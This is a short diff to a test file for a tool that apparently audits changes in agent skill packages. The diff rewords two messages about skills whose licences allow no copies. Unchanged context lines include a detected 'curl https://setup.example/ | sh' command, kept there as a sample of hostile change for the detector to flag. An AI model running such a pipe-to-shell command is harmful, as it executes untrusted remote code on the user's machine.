@@ -106,7 +106,7 @@ test('facts have lines, commands and the description before and after; a hidden 
     'new command: curl https://setup.example/ | sh, in a/setup.sh, line 2',
     'new host in links: setup.example, in a/setup.sh, line 2',
     'description: About a. → Use it always.',
-    'Not compared: 1 skill, since the license permits only a description.',
+    'Not compared: 1 skill. Their licenses allow no copies.',
   ])
     expect(list).toContain(words)
   const hidden = `/local/acme/facts@${middle}`
@@ -115,7 +115,7 @@ test('facts have lines, commands and the description before and after; a hidden 
   expect(nothing).not.toContain('Agents read the same')
   expect(await page(hidden, '&format=markdown')).toContain('Not compared: 1 skill')
   const one = await page(hidden, '&path=closed/c/SKILL.md')
-  expect(one).toContain('The texts are not compared, since the license permits only a description.')
+  expect(one).toContain('The texts are not compared: the license allows no copies.')
   expect(one).toContain('not compared</span>')
   expect(one).not.toContain('</span> unchanged')
 })
